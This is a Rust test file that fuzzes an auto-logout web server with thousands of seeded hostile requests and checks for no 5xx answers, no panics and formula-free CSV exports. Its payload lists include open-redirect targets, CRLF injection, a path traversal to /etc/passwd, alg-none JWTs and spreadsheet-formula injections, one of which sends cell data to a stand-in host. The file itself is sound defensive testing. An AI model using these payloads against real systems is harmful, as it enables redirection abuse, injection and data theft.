//! The hostile-input suite (ISSUE "safe to expose"): thousands of generated requests with
//! malformed and duplicated cookies, Host and X-Forwarded-For headers, user agents, `next`
//! values, form and JSON bodies and huge headers, sent through the real server. With a healthy
//! database and 16 requests in flight (within the hashing queue), none may be answered with a
//! 5xx at all, not even a 503, and nothing may panic.
//! The generator is seeded, so a failure names a case that can be replayed.

use crate::common::*;
use auto_logout::server::db::DbKind;
use rand::{rngs::StdRng, seq::SliceRandom, Rng, SeedableRng};
use reqwest::Method;
use std::{
    collections::BTreeMap,
    sync::{
        atomic::{AtomicUsize, Ordering},
        Once,
    },
};

db_tests!(generated_hostile_requests_never_break_the_server);

static PANICS: AtomicUsize = AtomicUsize::new(0);
static HOOK: Once = Once::new();

fn count_panics() {
    HOOK.call_once(|| {
        let previous = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            PANICS.fetch_add(1, Ordering::SeqCst);
            previous(info);
        }));
    });
}

const BAD_NEXT: &[&str] = &[
    "//evil.com",
    "\\\\evil.com",
    "/\\evil.com",
    "https:evil.com",
    "https://evil.com/x",
    "javascript:alert(1)",
    "%2F%2Fevil.com",
    "/%2F/evil.com",
    "/%5Cevil.com",
    "/home\r\nSet-Cookie: x=1",
    "/home",
    "",
    "/sessions?x=1#y",
    "/\t/evil.com",
];

/// User agents a spreadsheet would run as formulas (OWASP CSV injection).
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\u{ff1d}1+1",
    "\t=1",
];

/// Names that look like `alice`: case, width, another script.
const LOOK_ALIKES: &[&str] = &["ALICE", "Alice", "ａｌｉｃｅ", "\u{430}lice", "al\u{456}ce"];

const PATHS: &[&str] = &[
    "/",
    "/metrics",
    "/account/password",
    "/account",
    "/sign-in",
    "/sign-in/",
    "/home",
    "/sessions",
    "/logout",
    "/healthz",
    "/api/v1/session",
    "/api/v1/session/extend",
    "/api/v1/sessions",
    "/api/v1/sessions?scope=others",
    "/api/v1/sessions?scope=everything",
    "/api/v1/sessions?token_id=",
    "/api/v1/sessions/",
    "/api/v1/auth/token",
    "/api/v1/auth/jwt",
    "/api/v1/auth/jwt/refresh",
    "/api/v1/auth/logout",
    "/api/v1/openapi.json",
    "/api/v1/admin/sessions?cursor=zz",
    "/api/v1/admin/sessions?state=active&kind=api&limit=-5",
    "/api/v1/admin/activity?since=x&event=nap",
    "/api/v1/admin/users",
    "/api/v1/admin/users/alice/sign-out",
    "/api/v1/admin/sessions/0123",
    "/admin/sessions?state=ended&cursor=1:x",
    "/admin/activity?since=2026-13-45&cursor=-1",
    "/admin/activity.csv?event=nap",
    "/admin/users",
    "/admin/users/create",
    "/admin/users/disable",
    "/admin/users/explode",
    "/admin/sessions/end",
    "/account/password",
    "/metrics",
    "/api/session_status",
    "/api/activity",
    "/api/my_sessions",
    "/api/current_user",
    "/api/public_settings",
    "/api/take_flash",
    "/sessions/revoke",
    "/sessions/revoke-others",
    "/pkg/auto-logout.css",
    "//evil.com/",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/admin/sessions",
    "/nothing/here",
];

const METHODS: &[&str] = &["GET", "POST", "DELETE", "PUT", "HEAD", "PATCH", "OPTIONS"];

/// A random string of printable ASCII (what a header value may hold) of up to `max` bytes.
fn printable(rng: &mut StdRng, max: usize) -> String {
    let len = rng.gen_range(0..=max);
    (0..len)
        .map(|_| rng.gen_range(0x20u8..0x7f) as char)
        .collect()
}

/// A random string of any characters (form and JSON fields may hold anything).
fn anything(rng: &mut StdRng, max: usize) -> String {
    let len = rng.gen_range(0..=max);
    (0..len)
        .map(|_| match rng.gen_range(0..10) {
            0 => char::from_u32(rng.gen_range(0..0x2_0000)).unwrap_or('\u{fffd}'),
            1 => ['\'', '"', ';', '-', '\0', '%', '\\', '<', '>', '&'][rng.gen_range(0..10)],
            _ => rng.gen_range(b'a'..=b'z') as char,
        })
        .collect()
}

fn percent(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

struct Context {
    live_cookie: String,
    ended_cookie: String,
    live_token: String,
    ended_token: String,
    admin_cookie: String,
    address: String,
}

/// One generated request (method, path, headers, body), described for failure messages.
fn generate(
    rng: &mut StdRng,
    ctx: &Context,
    client: &reqwest::Client,
) -> (reqwest::RequestBuilder, String) {
    let method: Method = METHODS.choose(rng).unwrap().parse().unwrap();
    let mut path = match rng.gen_range(0..10) {
        0 => format!("/sign-in?next={}", percent(BAD_NEXT.choose(rng).unwrap())),
        1 => format!("/api/v1/sessions/{}", percent(&printable(rng, 80))),
        2 => format!(
            "/api/v1/sessions?token_id={}&token_id={}",
            percent(&printable(rng, 70)),
            percent(&printable(rng, 70))
        ),
        3 => format!("/{}", percent(&printable(rng, 300)).replace("%2F", "/")),
        4 => format!("/home{}", "/".repeat(rng.gen_range(0..4))),
        // Many session ids at once, distinct or repeated (capped at 100 distinct).
        5 if rng.gen_bool(0.3) => {
            let distinct = rng.gen_bool(0.5);
            let ids = (0..rng.gen_range(50..400))
                .map(|i| {
                    let id = if distinct { i } else { 7 };
                    format!("token_id={id:064x}")
                })
                .collect::<Vec<_>>();
            format!("/api/v1/sessions?{}", ids.join("&"))
        }
        _ => (*PATHS.choose(rng).unwrap()).to_owned(),
    };
    if rng.gen_bool(0.05) {
        path.push_str(&"a".repeat(rng.gen_range(1000..6000)));
    }
    let mut described = format!("{method} {path}");
    let mut req = client.request(method.clone(), format!("{}{}", ctx.address, path));
    let mut header = |req: reqwest::RequestBuilder, name: &str, value: String| {
        described.push_str(&format!(
            " | {name}: {}",
            value.chars().take(80).collect::<String>()
        ));
        req.header(name, value)
    };
    // Cookies: live, ended, malformed, duplicated, encoded, huge.
    if rng.gen_bool(0.7) {
        let session = match rng.gen_range(0..8) {
            0 => ctx.live_cookie.clone(),
            1 => ctx.ended_cookie.clone(),
            2 => printable(rng, 40).replace(';', ""),
            3 => "A".repeat(22),
            5 | 6 => ctx.admin_cookie.clone(),
            4 => printable(rng, 4000).replace(';', ""),
            _ => format!("{}{}", ctx.live_cookie, printable(rng, 3)),
        };
        let cookie = match rng.gen_range(0..6) {
            0 => format!(
                "auto_logout_session={session}; auto_logout_session={}",
                ctx.ended_cookie
            ),
            1 => format!("auto_logout%5Fsession={session}"),
            2 => format!(" auto_logout_session = {session} ;;; x=1"),
            3 => format!("__Host-auto_logout_session={session}; auto_logout_flash=signed_out"),
            4 => printable(rng, 200),
            _ => format!("auto_logout_session={session}"),
        };
        req = header(req, "cookie", cookie);
        if rng.gen_bool(0.1) {
            req = header(
                req,
                "cookie",
                format!("auto_logout_session={}", ctx.live_cookie),
            );
        }
    }
    if rng.gen_bool(0.15) {
        let host = match rng.gen_range(0..6) {
            0 => "attacker.example".to_owned(),
            1 => "localhost".to_owned(),
            2 => "[::1]:99999".to_owned(),
            3 => "a:b:c".to_owned(),
            4 => printable(rng, 100),
            _ => "127.0.0.1.nip.io".to_owned(),
        };
        req = header(req, "host", host);
    }
    if rng.gen_bool(0.3) {
        let xff = match rng.gen_range(0..4) {
            0 => (0..rng.gen_range(1..200))
                .map(|i| format!("10.0.{}.{}", i % 256, rng.gen_range(0..256)))
                .collect::<Vec<_>>()
                .join(", "),
            1 => printable(rng, 300),
            2 => "2001:db8::1, ::ffff:1.2.3.4, 999.1.1.1".to_owned(),
            _ => format!(
                "{}.{}.{}.{}",
                rng.gen::<u8>(),
                rng.gen::<u8>(),
                rng.gen::<u8>(),
                rng.gen::<u8>()
            ),
        };
        let xff = if rng.gen_bool(0.3) {
            // One IPv6 site, spread over its /64 networks.
            format!("2001:db8:5:{:x}::{:x}", rng.gen::<u16>(), rng.gen::<u16>())
        } else {
            xff
        };
        req = header(req, "x-forwarded-for", xff);
    }
    if rng.gen_bool(0.3) {
        let ua = match rng.gen_range(0..5) {
            0 => String::new(),
            1 => "x".repeat(8 * 1024),
            2 => printable(rng, 300),
            // Spreadsheet formulas, for the activity export.
            3 => (*FORMULAS.choose(rng).unwrap()).to_owned(),
            _ => CHROME_UA.to_owned(),
        };
        req = header(req, "user-agent", ua);
    }
    if rng.gen_bool(0.4) {
        let (name, value) = match rng.gen_range(0..6) {
            0 => ("sec-fetch-site", "cross-site".to_owned()),
            1 => ("sec-fetch-site", "same-origin".to_owned()),
            2 => ("origin", "https://attacker.example".to_owned()),
            3 => ("origin", "null".to_owned()),
            4 => ("referer", printable(rng, 200)),
            _ => ("origin", ctx.address.clone()),
        };
        req = header(req, name, value);
    }
    if rng.gen_bool(0.1) {
        req = header(req, "x-session-passive", printable(rng, 3));
    }
    if rng.gen_bool(0.2) {
        let segment = |rng: &mut StdRng| {
            let text = printable(rng, 60);
            base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, text)
        };
        let value = match rng.gen_range(0..8) {
            0 => format!("Bearer {}", printable(rng, 300)),
            1 => format!("Token {}", ctx.live_token),
            2 => format!("Bearer {}", ctx.ended_token),
            3 => format!("bearer {}.{}.{}", segment(rng), segment(rng), segment(rng)),
            // alg none, with claims naming nothing.
            4 => format!("Bearer eyJhbGciOiJub25lIn0.{}.", segment(rng)),
            5 => format!("Bearer {}", "x".repeat(rng.gen_range(4_000..9_000))),
            6 => format!("Basic {}", printable(rng, 40)),
            7 if rng.gen_bool(0.3) => format!("Bearer metrics-{}", printable(rng, 20)),
            _ => printable(rng, 100),
        };
        req = header(req, "authorization", value);
    }
    if rng.gen_bool(0.03) {
        // One huge header: the server answers (431 or otherwise), it does not fall over.
        req = header(req, "x-padding", "p".repeat(rng.gen_range(10_000..70_000)));
    }
    // Bodies.
    if method == Method::POST || method == Method::DELETE || method == Method::PUT {
        match rng.gen_range(0..5) {
            0 | 1 => {
                let password = if rng.gen_bool(0.1) {
                    "p".repeat(10 * 1024)
                } else {
                    anything(rng, 40)
                };
                let username = match rng.gen_range(0..4) {
                    // Look-alikes of the account, and a name far past the longest.
                    0 => (*LOOK_ALIKES.choose(rng).unwrap()).to_owned(),
                    1 if rng.gen_bool(0.1) => "ä".repeat(rng.gen_range(100..20_000)),
                    _ => anything(rng, 80),
                };
                let mut fields = vec![
                    ("username".to_owned(), username),
                    ("password".to_owned(), password),
                    (
                        "next".to_owned(),
                        (*BAD_NEXT.choose(rng).unwrap()).to_owned(),
                    ),
                ];
                if rng.gen_bool(0.3) {
                    fields.push(("username".to_owned(), "alice".to_owned()));
                    fields.push(("remember".to_owned(), anything(rng, 5)));
                }
                if rng.gen_bool(0.2) {
                    fields.push(("id".to_owned(), printable(rng, 80)));
                }
                described.push_str(" | form");
                req = req.form(&fields);
            }
            2 => {
                described.push_str(" | bytes as form");
                let bytes: Vec<u8> = (0..rng.gen_range(0..2000)).map(|_| rng.gen()).collect();
                req = req
                    .header("content-type", "application/x-www-form-urlencoded")
                    .body(bytes);
            }
            3 => {
                described.push_str(" | json");
                let body = match rng.gen_range(0..3) {
                    0 => format!("{{\"username\": {}, \"password\": 5}}", rng.gen::<i64>()),
                    1 => "[".repeat(rng.gen_range(1..5000)),
                    _ => format!(
                        "{{\"refresh_token\": \"{}\"}}",
                        printable(rng, 100).replace('"', "")
                    ),
                };
                req = req.header("content-type", "application/json").body(body);
            }
            _ => {}
        }
    }
    (req, described)
}

async fn generated_hostile_requests_never_break_the_server(db: TestDb) {
    count_panics();
    let app = spawn_app_env(db, &[("AUTO_LOGOUT_TRUSTED_PROXIES", "127.0.0.1")]).await;
    let cases = match app.state.engine.database().kind() {
        DbKind::Sqlite => 10_000,
        DbKind::Postgres => 3_000,
    };
    let (_live_client, live_cookie) = app.signed_in_with_cookie().await;
    let (ended_client, ended_cookie) = app.signed_in_with_cookie().await;
    assert_eq!(app.logout(&ended_client).await.status(), 303);
    let api_token = |status: u16, body: serde_json::Value| {
        assert_eq!(status, 201, "{body}");
        body["token"].as_str().unwrap().to_owned()
    };
    let token_request = || {
        reqwest::Client::new()
            .post(app.url("/api/v1/auth/token"))
            .json(&serde_json::json!({"username": "alice", "password": PASSWORD}))
    };
    let res = token_request().send().await.unwrap();
    let live_token = api_token(res.status().as_u16(), res.json().await.unwrap());
    let res = token_request().send().await.unwrap();
    let ended_token = api_token(res.status().as_u16(), res.json().await.unwrap());
    let ended = reqwest::Client::new()
        .post(app.url("/api/v1/auth/logout"))
        .header("authorization", format!("Bearer {ended_token}"))
        .send()
        .await
        .unwrap();
    assert_eq!(ended.status(), 204);
    app.state
        .engine
        .users()
        .create("root", PASSWORD, true)
        .await
        .unwrap();
    let admin = browser();
    let signed_in = app.sign_in(&admin, "root", PASSWORD, "").await;
    let admin_cookie = session_cookie(&signed_in).expect("an admin session");
    let ctx = Context {
        live_cookie,
        ended_cookie,
        admin_cookie,
        live_token,
        ended_token,
        address: app.address.clone(),
    };
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .timeout(std::time::Duration::from_secs(30))
        .build()
        .unwrap();
    let mut rng = StdRng::seed_from_u64(0x5afe_70e7_905e);
    let mut statuses: BTreeMap<u16, usize> = BTreeMap::new();
    let mut failures = Vec::new();
    let mut in_flight = tokio::task::JoinSet::new();
    for case in 0..cases {
        let (req, described) = generate(&mut rng, &ctx, &client);
        in_flight.spawn(async move {
            // A server may answer (405, 413…) and close before it has read a body the client
            // is still writing; the client then sees a send error. Sent again, a server that
            // is still up answers; one that fell over does not.
            let again = req.try_clone();
            let mut sent = req.send().await;
            if let (Err(err), Some(again)) = (&sent, again) {
                if err.is_request() {
                    sent = again.send().await;
                }
            }
            (case, described, sent)
        });
        if in_flight.len() >= 16 {
            collect(in_flight.join_next().await, &mut statuses, &mut failures);
        }
    }
    while let Some(done) = in_flight.join_next().await {
        collect(Some(done), &mut statuses, &mut failures);
    }
    println!("{cases} hostile requests, answers by status: {statuses:?}");
    assert!(
        failures.is_empty(),
        "{} of {cases} cases failed, first ones: {:#?}",
        failures.len(),
        &failures[..failures.len().min(10)]
    );
    assert_eq!(PANICS.load(Ordering::SeqCst), 0, "the server panicked");
    let health = browser().get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200, "still serving");
    // Whatever the requests wrote to the audit log, its export starts no cell with a formula.
    let csv = admin
        .get(app.url("/admin/activity.csv?limit=10000"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for cell in csv::Reader::from_reader(csv.as_bytes())
        .records()
        .flatten()
        .flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>())
    {
        assert!(
            !cell.starts_with([
                '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'
            ]),
            "a formula in the export: {cell:?}"
        );
    }
    assert_eq!(statuses.values().sum::<usize>(), cases);
}

type Sent = (usize, String, reqwest::Result<reqwest::Response>);

fn collect(
    done: Option<Result<Sent, tokio::task::JoinError>>,
    statuses: &mut BTreeMap<u16, usize>,
    failures: &mut Vec<String>,
) {
    let Some(done) = done else { return };
    let (case, described, result) = done.expect("request task");
    match result {
        Ok(res) => {
            let status = res.status();
            *statuses.entry(status.as_u16()).or_default() += 1;
            if status.is_server_error() {
                failures.push(format!("case {case}: {status} for {described}"));
            }
        }
        Err(err) => {
            *statuses.entry(0).or_default() += 1;
            failures.push(format!("case {case}: no answer ({err}) for {described}"));
        }
    }
}
